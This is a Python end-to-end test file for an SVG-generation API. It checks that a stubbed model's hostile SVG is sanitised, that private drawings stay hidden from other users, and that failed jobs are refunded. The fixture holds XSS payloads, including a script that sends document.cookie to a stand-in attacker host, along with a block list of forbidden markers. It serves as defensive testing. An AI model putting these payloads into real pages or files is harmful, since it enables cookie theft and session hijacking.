"""From sign-up to a downloaded file over `/api`, on real processes, as somebody with curl would."""

import pytest

from tests.faults.people import Person
from tests.model_server import Behaviour

pytestmark = pytest.mark.slow
HOSTILE = """Here is your fox:
```svg
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     viewBox="0 0 64 64" onload="alert(1)">
  <script>fetch('https://evil.example/' + document.cookie)</script>
  <style>@import url(https://evil.example/a.css); rect { fill: #c55a30 }</style>
  <foreignObject><iframe src="https://evil.example"/></foreignObject>
  <image href="https://evil.example/pixel.png" width="1" height="1"/>
  <a xlink:href="javascript:alert(2)"><circle cx="32" cy="32" r="17" fill="#f3aa4d"/></a>
  <rect x="5" y="7" width="11" height="13" onclick="alert(3)"/>
</svg>
```
Enjoy!"""
FORBIDDEN = (
    "script onload onclick javascript foreignObject iframe evil.example alert @import".split()
)


def test_drawing_of_the_models_server_arrives_sanitized(stack):
    stack.model.default = Behaviour(answer=HOSTILE, piece_delay=0.02)
    person = Person(stack.url).register()
    assert person.credits() == 10

    asked = person.submit("one-key", prompt="a red fox asleep", style="flat", privacy=True)
    assert asked.status == 202
    job = asked.json["job"]
    assert asked.headers["location"] == f"/api/svg/generation-jobs/{job['id']}"
    assert stack.wait_for(lambda: person.job(job["id"]).json["job"]["finishedAt"], 15)

    done = person.job(job["id"]).json
    assert (done["job"]["status"], done["credits"]) == ("SUCCEEDED", 9)
    drawing = done["job"]["generationId"]
    source = person.get(f"/svg/{drawing}/source").json
    assert source == {"id": drawing, "svg": done["job"]["generation"]["svg"]}
    assert [word for word in FORBIDDEN if word in source["svg"]] == []
    assert 'r="17"' in source["svg"]
    assert '"#f3aa4d"' in source["svg"]

    address = person.get(f"/svg/{drawing}/download").json["downloadUrl"]
    file = Person(stack.url).fetch(address)  # the address alone opens it
    assert (file.status, file.body.decode()) == (200, source["svg"])
    assert file.headers["content-type"] == "image/svg+xml; charset=utf-8"
    assert (
        file.headers["content-disposition"]
        == f'attachment; filename="a-red-fox-asleep-{drawing[-12:]}.svg"'
    )
    assert file.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in file.headers["content-security-policy"]

    draft, *repairs = stack.model.log
    assert "a red fox asleep" in str(draft.body["messages"])
    assert len(repairs) == 2  # for what was taken out; it insists
    assert all("image is not allowed" in str(call.body["messages"]) for call in repairs)
    assert {call.headers["authorization"] for call in stack.model.log} == {"Bearer key-of-the-test"}


def test_private_drawing_is_missing_to_everybody_else(stack):
    person, stranger = Person(stack.url).register(), Person(stack.url).register()
    job = person.ask(privacy=True)
    assert stack.wait_ended(job) == ["SUCCEEDED"]
    drawing = person.job(job).json["job"]["generationId"]

    asked = [f"/svg/{drawing}/source", f"/svg/{drawing}/download", f"/svg/generation-jobs/{job}"]

    assert [stranger.get(path).status for path in asked] == [404, 404, 404]
    assert [person.get(path).status for path in asked] == [200, 200, 200]


def test_answer_that_is_no_drawing_fails_and_costs_nothing(stack):
    stack.model.default = Behaviour(answer="I would rather write you a poem.")
    person = Person(stack.url).register()

    job = person.ask()

    assert stack.wait_ended(job) == ["FAILED"]
    told = person.job(job).json
    assert (told["job"]["errorCode"], told["credits"]) == ("VALIDATION_ERROR", 10)
    assert told["job"]["errorMessage"].endswith("You were not charged.")
    assert stack.entries(job) == ["capture", "refund"]
    assert stack.audit()[0] == 0
